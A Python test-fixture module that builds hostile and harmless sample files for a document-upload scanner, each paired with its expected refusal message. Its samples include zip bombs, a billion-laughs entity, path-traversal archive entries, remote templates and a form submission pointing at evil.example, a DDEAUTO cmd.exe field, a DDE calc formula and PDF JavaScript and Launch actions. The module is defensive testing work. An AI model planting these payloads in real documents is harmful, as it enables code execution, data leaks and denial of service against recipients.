"""The hostile files, each with the beginning of the sentence that refuses it."""

from collections.abc import Callable, Iterator

from . import building
from .building import A, S, archive, content_types, docx, odf, pdf, picture, pptx, relations, words, xlsx

OTHER = "What is in the file is not what its name says"
MACROS = "The file holds macros"
EMBEDDED = "The file holds another file or an object"
EXTERNAL = "The file fetches something from elsewhere"
ENCRYPTED = "The file is encrypted"
PAGE = "The file holds a drawing in SVG"
PLAIN_PAGE = "The file is a page in HTML"
BOMB = "The file unpacks to far more than it is"
PARTS = "The file has more than 2,000 parts"
BUILT = "The file is not built as such files are"
DAMAGED = "The file is damaged"
DECLARED = "The file holds declarations"
KIND = "Files of the kind"
RUNS = "The file holds a script or an action"
FORM = "The file holds a form"
CLASSIFIED = "This file bears the classification"
LARGE = "The file is larger than 25 MB"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000

File = tuple[str, str, bytes | Callable[[], bytes], str]


def hostile() -> Iterator[File]:
    """Label, name, bytes (or what makes them), and the beginning of the refusal."""
    yield from by_name()
    yield from archives()
    yield from office()
    yield from opendocument()
    yield from pdfs()
    yield from texts_and_pictures()
    yield from classified()


def by_name() -> Iterator[File]:
    yield "no ending", "report", b"text", KIND
    yield "a program", "report.exe", b"MZ", KIND
    yield "a program behind a paper", "report.pdf.exe", b"MZ", KIND
    yield "a drawing", "map.svg", b"<svg/>", KIND
    yield "a page", "page.html", b"<html/>", KIND
    yield "a Word file with macros", "report.docm", docx(), KIND
    yield "an old Word file", "report.doc", COMPOUND, KIND
    yield "an archive", "all.zip", archive({"a": b"b"}), KIND
    yield "turned writing", "report\u202efdp.exe", b"MZ", KIND
    yield "nothing in it", "report.txt", b"", "The file is empty"
    yield "too large", "report.txt", b"a" * (25 * 1024 * 1024 + 1), LARGE


def archives() -> Iterator[File]:
    yield "old format named anew", "report.docx", COMPOUND, ENCRYPTED
    yield "not an archive", "report.docx", b"plain text", OTHER
    yield "cut off", "report.docx", docx()[:300], DAMAGED
    yield "something before it", "report.docx", b"#!/bin/sh\n" + docx(), OTHER
    yield "something inside before it", "report.docx", lambda: archive({"x": b"y"}) + docx(), OTHER
    yield "something behind it", "report.docx", docx() + b"MZ\x90", OTHER
    yield "encrypted entries", "report.docx", building.encrypted_zip, ENCRYPTED
    bomb = {"word/media/zeros.bin": b"\0" * 30_000_000}
    yield "a bomb in a Word file", "report.docx", lambda: docx(bomb), BOMB
    yield (
        "a bomb in an Excel file",
        "report.xlsx",
        lambda: xlsx({"xl/media/zeros.bin": b"\0" * 30_000_000}),
        BOMB,
    )
    many = {f"word/media/{number}.bin": b"\0" * 60_000 for number in range(1_900)}
    yield "a bomb in many small parts", "report.docx", lambda: docx(many), BOMB
    yield "a bomb that lies of its size", "report.docx", building.lying_zip, DAMAGED
    parts = {f"word/media/{number}.bin": b"x" for number in range(2_001)}
    yield "too many parts", "report.docx", lambda: docx(parts), PARTS
    yield "a part that climbs out", "report.docx", docx({"../../etc/cron.d/x": b"x"}), BUILT
    yield "a part at the root", "report.docx", docx({"/etc/passwd": b"x"}), BUILT
    yield "a part on a drive", "report.docx", docx({"C:\\x": b"x"}), BUILT
    yield "a file in a file", "report.docx", docx({"word/media/x.bin": docx()}), EMBEDDED
    yield "a program in a file", "report.docx", docx({"word/media/x.bin": b"MZ\x90\0"}), EMBEDDED
    yield "an Excel file named Word", "report.docx", xlsx(), OTHER
    yield "a Word file named PowerPoint", "report.pptx", docx(), OTHER
    yield "an archive named Word", "report.docx", archive({"a.txt": b"x"}), OTHER
    entity = '<!DOCTYPE x [<!ENTITY a "b">]>' + words("&a;")
    yield "declared entities", "report.docx", docx(body=entity), DECLARED
    yield (
        "entities in wide letters",
        "report.docx",
        docx({"word/document.xml": entity.encode("utf-16")}),
        DECLARED,
    )
    laughs = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 50 + '"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    yield "a billion laughs", "report.xlsx", xlsx({"xl/sharedStrings.xml": laughs}), DECLARED
    yield "not XML", "report.docx", docx(body="<w:document"), DAMAGED


def office() -> Iterator[File]:
    rels = "word/_rels/document.xml.rels"
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macros named away", "report.docx", docx(types=content_types("docx", main=macro_type)), MACROS
    yield "a project of macros", "report.docx", docx({"word/vbaProject.bin": b"x"}), MACROS
    yield (
        "a project under another name",
        "report.docx",
        docx({rels: relations(("vbaProject", "x.bin", False))}),
        MACROS,
    )
    override = '<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield "a project by its kind", "report.docx", docx(types=content_types("docx", more=override)), MACROS
    yield "a sheet of macros", "report.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS
    opens = f'<workbook xmlns="{S}"><definedNames><definedName name="_xlnm.Auto_Open">x</definedName></definedNames></workbook>'
    yield "macros on opening", "report.xlsx", xlsx({"xl/workbook.xml": opens}), MACROS
    yield (
        "a ribbon of its own",
        "report.docx",
        docx({"_rels/.rels": relations(("ui/extensibility", "c.xml", False))}),
        MACROS,
    )
    yield "an embedded workbook", "report.docx", docx({"word/embeddings/book.xlsx": xlsx()}), EMBEDDED
    yield "an embedded object", "report.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), EMBEDDED
    yield (
        "an object by its relation",
        "report.pptx",
        pptx({"ppt/slides/_rels/slide1.xml.rels": relations(("oleObject", "x", False))}),
        EMBEDDED,
    )
    yield "a control", "report.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), EMBEDDED
    yield "a page put in", "report.docx", docx({rels: relations(("aFChunk", "a.mht", False))}), EMBEDDED
    yield (
        "a document put in",
        "report.docx",
        docx({rels: relations(("subDocument", "a.docx", False))}),
        EMBEDDED,
    )
    template = relations(("attachedTemplate", "https://evil.example/t.dotm", True))
    yield (
        "a template from elsewhere",
        "report.docx",
        docx({"word/_rels/settings.xml.rels": template}),
        EXTERNAL,
    )
    unsaid = relations(("attachedTemplate", "https://evil.example/t.dotm", False))
    yield (
        "a template that does not say so",
        "report.docx",
        docx({"word/_rels/settings.xml.rels": unsaid}),
        EXTERNAL,
    )
    share = relations(("image", "\\\\evil.example\\share\\a.png", True))
    yield "a picture from a share", "report.docx", docx({rels: share}), EXTERNAL
    yield (
        "a picture from elsewhere",
        "report.pptx",
        pptx({"ppt/slides/_rels/slide1.xml.rels": relations(("image", "http://evil.example/a.png", True))}),
        EXTERNAL,
    )
    script = relations(("hyperlink", "javascript:alert(1)", True))
    yield "a link that runs", "report.docx", docx({rels: script}), EXTERNAL
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r></w:p>'
    yield "a field that runs", "report.docx", docx(body=words("x", inner=field)), EXTERNAL
    include = '<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/a"/></w:p>'
    yield "a field that fetches", "report.docx", docx(body=words("x", inner=include)), EXTERNAL
    yield (
        "a workbook elsewhere",
        "report.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}),
        EXTERNAL,
    )
    yield "data from elsewhere", "report.xlsx", xlsx({"xl/connections.xml": "<x/>"}), EXTERNAL
    formula = '<sheetData><row><c><f>WEBSERVICE("http://evil.example")</f></c></row></sheetData>'
    yield "a formula that fetches", "report.xlsx", xlsx(sheet=formula), EXTERNAL
    exchange = "<sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData>"
    yield "a formula that runs", "report.xlsx", xlsx(sheet=exchange), EXTERNAL
    yield "a drawing inside", "report.docx", docx({"word/media/image1.svg": "<svg/>"}), PAGE
    yield (
        "a drawing under another name",
        "report.docx",
        docx({"word/media/image1.png": b"<svg onload='x'/>"}),
        PAGE,
    )
    yield "a page inside", "report.docx", docx({"word/page.html": "<html/>"}), PAGE


def opendocument() -> Iterator[File]:
    yield "a table named text", "report.odt", odf("ods"), OTHER
    yield "a Word file named OpenDocument", "report.odt", docx(), OTHER
    yield "macros in Basic", "report.odt", odf("odt", {"Basic/Standard/Module1.xml": "<x/>"}), MACROS
    yield "scripts", "report.ods", odf("ods", {"Scripts/python/x.py": "x"}), MACROS
    yield (
        "an event that runs",
        "report.odt",
        odf("odt", body='<script:event-listener script:language="ooo:script"/>'),
        MACROS,
    )
    yield "an object folder", "report.odt", odf("odt", {"Object 1/content.xml": "<x/>"}), EMBEDDED
    yield "an object", "report.odt", odf("odt", body='<draw:object xlink:href="./x"/>'), EMBEDDED
    yield "a plug-in", "report.odt", odf("odt", body='<draw:plugin xlink:href="./x"/>'), EMBEDDED
    yield "a frame", "report.odt", odf("odt", body='<draw:floating-frame xlink:href="x"/>'), EMBEDDED
    yield (
        "a picture from elsewhere, open",
        "report.odt",
        odf("odt", body='<draw:image xlink:href="http://evil.example/a"/>'),
        EXTERNAL,
    )
    yield (
        "a link that runs, open",
        "report.odt",
        odf("odt", body='<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
        EXTERNAL,
    )
    meta = f'<office:document-meta {building.NAMES}><meta:template xlink:href="http://evil.example/t.ott"/></office:document-meta>'
    yield "a template from elsewhere, open", "report.odt", odf("odt", {"meta.xml": meta}), EXTERNAL
    locked = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
        "</manifest:manifest>"
    )
    yield "encrypted, open", "report.odt", odf("odt", manifest=locked), ENCRYPTED


def pdfs() -> Iterator[File]:
    yield "text named PDF", "report.pdf", b"plain text", OTHER
    yield "something before a PDF", "report.pdf", b"<html><script>x</script>" + pdf(), OTHER
    yield "an archive behind a PDF", "report.pdf", pdf() + archive({"a": b"b"}), OTHER
    yield "no pages", "report.pdf", b"%PDF-1.7\n%%EOF", DAMAGED
    yield "encrypted PDF", "report.pdf", building.encrypted_pdf, ENCRYPTED
    yield (
        "a script on opening",
        "report.pdf",
        pdf("<< /S /JavaScript /JS (app.alert(1)) >>", catalog="/OpenAction 6 0 R"),
        RUNS,
    )
    yield (
        "a script under another spelling",
        "report.pdf",
        pdf("<< /S /J#61vaScript /J#53 (x) >>", catalog="/OpenAction 6 0 R"),
        RUNS,
    )
    yield "a script that nothing leads to", "report.pdf", pdf("<< /S /JavaScript /JS (x) >>"), RUNS
    yield (
        "a program to start",
        "report.pdf",
        pdf("<< /S /Launch /F (cmd.exe) >>", catalog="/OpenAction 6 0 R"),
        RUNS,
    )
    yield (
        "an address on opening",
        "report.pdf",
        pdf("<< /S /URI /URI (http://evil.example) >>", catalog="/OpenAction 6 0 R"),
        RUNS,
    )
    yield "an action of a page", "report.pdf", pdf(page="/AA << /O << /S /URI /URI (x) >> >>"), RUNS
    yield "a form that sends", "report.pdf", pdf("<< /S /SubmitForm /F (http://evil.example) >>"), RUNS
    names = "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    yield (
        "a file in a PDF",
        "report.pdf",
        pdf("<< /Type /Filespec /EF << /F 4 0 R >> >>", catalog=names),
        EMBEDDED,
    )
    yield "a file as a note", "report.pdf", pdf("<< /Type /Annot /Subtype /FileAttachment >>"), EMBEDDED
    yield "rich media", "report.pdf", pdf("<< /Type /Annot /Subtype /RichMedia >>"), EMBEDDED
    yield "a form of another kind", "report.pdf", pdf(catalog="/AcroForm << /XFA 4 0 R >>"), FORM


def texts_and_pictures() -> Iterator[File]:
    yield "a page named text", "note.txt", b"<!DOCTYPE html><html>x</html>", PLAIN_PAGE
    yield "a script named text", "note.txt", b"Hello <script>x</script>", PLAIN_PAGE
    yield "a drawing named text", "note.txt", b"<svg onload=x>", PLAIN_PAGE
    yield "a page named CSV", "list.csv", "a;b\n<HTML>".encode("utf-16"), PLAIN_PAGE
    yield "a PDF named text", "note.txt", pdf(), OTHER
    yield "an archive named CSV", "list.csv", docx(), OTHER
    yield "a program named text", "note.txt", b"MZ\x90\0\x03", OTHER
    yield "bytes named text", "note.txt", bytes(range(256)), OTHER
    yield "a page named PNG", "map.png", b"<html/>", OTHER
    yield "a drawing named PNG", "map.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", OTHER
    yield "a JPEG named PNG", "map.png", picture("JPEG"), OTHER
    yield "a GIF named JPEG", "map.jpg", picture("GIF"), OTHER
    yield "a cut picture", "map.png", picture(size=(400, 400))[:80], "The picture is damaged"
    yield "a bomb of points", "map.png", building.huge_png, "The picture has more than 50 million points"


MARKS = (
    "RESTREINT UE/EU RESTRICTED",
    "Restreint UE",
    "EU RESTRICTED",
    "CONFIDENTIEL UE/EU CONFIDENTIAL",
    "SECRET UE/EU SECRET",
    "TRES SECRET UE/EU TOP SECRET",
    "R E S T R E I N T  U E",
    "VS – NUR FÜR DEN DIENSTGEBRAUCH",
    "DIFUSIÓN LIMITADA",
    "ΠΕΡΙΟΡΙΣΜΕΝΗΣ ΧΡΗΣΗΣ",
    "За служебно ползване",
    "Diffusion restreinte",
    "Käyttö rajoitettu",
    "ZASTRZEŻONE",
    "Begränsat hemlig",
)


def classified() -> Iterator[File]:
    for mark in MARKS:
        yield f"marked {mark}", "note.docx", docx(body=words("Brussels", mark, "A paper.")), CLASSIFIED
    mark = MARKS[0]
    head = words(f"8255/23 {mark}", root="hdr")
    yield "marked in its head", "note.docx", docx({"word/header1.xml": head}), CLASSIFIED
    foot = words(f"Note from the Presidency {mark} page 2", root="ftr")
    yield "marked in its foot", "note.docx", docx({"word/footer2.xml": foot}), CLASSIFIED
    split = words("x").replace("<w:t>x</w:t>", "<w:t>RESTREINT</w:t></w:r><w:r><w:t> UE</w:t>")
    yield "marked in two pieces", "note.docx", docx(body=split), CLASSIFIED
    yield "marked PDF", "note.pdf", pdf(text=mark), CLASSIFIED
    yield "marked text", "note.txt", f"{mark}\n\nText".encode(), CLASSIFIED
    yield "marked table", "note.csv", f"a;b\n{mark}\n1;2".encode(), CLASSIFIED
    strings = f'<sst xmlns="{S}"><si><t>{mark}</t></si></sst>'
    yield "marked cell", "note.xlsx", xlsx({"xl/sharedStrings.xml": strings}), CLASSIFIED
    sheet = f"<headerFooter><oddHeader>&amp;C{mark}&amp;R&amp;P</oddHeader></headerFooter>"
    yield "marked sheet", "note.xlsx", xlsx(sheet=sheet), CLASSIFIED
    yield "marked slide", "note.pptx", pptx(text=mark), CLASSIFIED
    master = f'<p xmlns:a="{A}"><a:p><a:r><a:t>{mark}</a:t></a:r></a:p></p>'
    yield "marked master", "note.pptx", pptx({"ppt/slideMasters/slideMaster1.xml": master}), CLASSIFIED
    yield "marked OpenDocument", "note.odt", odf("odt", body=f"<text:p>{mark}</text:p>"), CLASSIFIED
    styles = f"<office:document-styles {building.NAMES}><style:header><text:p>{mark}</text:p></style:header></office:document-styles>"
    yield "marked head, open", "note.odt", odf("odt", {"styles.xml": styles}), CLASSIFIED


def harmless() -> Iterator[tuple[str, str, bytes, str]]:
    """Label, name, bytes and the text that is read from them."""
    speaks = (
        "The rules on RESTREINT UE/EU RESTRICTED documents do not apply to papers that are marked LIMITE."
    )
    yield "Word", "note.docx", docx(body=words("8255/23", "LIMITE", speaks)), f"8255/23\nLIMITE\n{speaks}"
    linked = relations(("hyperlink", "https://www.consilium.europa.eu/", True))
    yield "a link", "note.docx", docx({"word/_rels/document.xml.rels": linked}), "A harmless paper."
    yield "Excel", "list.xlsx", xlsx(), "Harmless"
    yield "PowerPoint", "talk.pptx", pptx(), "Harmless"
    yield "OpenDocument text", "note.odt", odf("odt"), "Harmless"
    yield "OpenDocument table", "list.ods", odf("ods"), "Harmless"
    yield "PDF", "note.PDF", pdf(text="LIMITE"), "LIMITE"
    yield (
        "text",
        "note.txt",
        "Réunion du 2 mai, secret des délibérations".encode(),
        "Réunion du 2 mai, secret des délibérations",
    )
    yield "text of Windows", "note.txt", "Réunion".encode("cp1252"), "Réunion"
    yield "CSV", "list.csv", b"a;b\n1;2", "a;b\n1;2"
    yield "PNG", "map.png", picture(), ""
    yield "JPEG", "map.jpeg", picture("JPEG"), ""
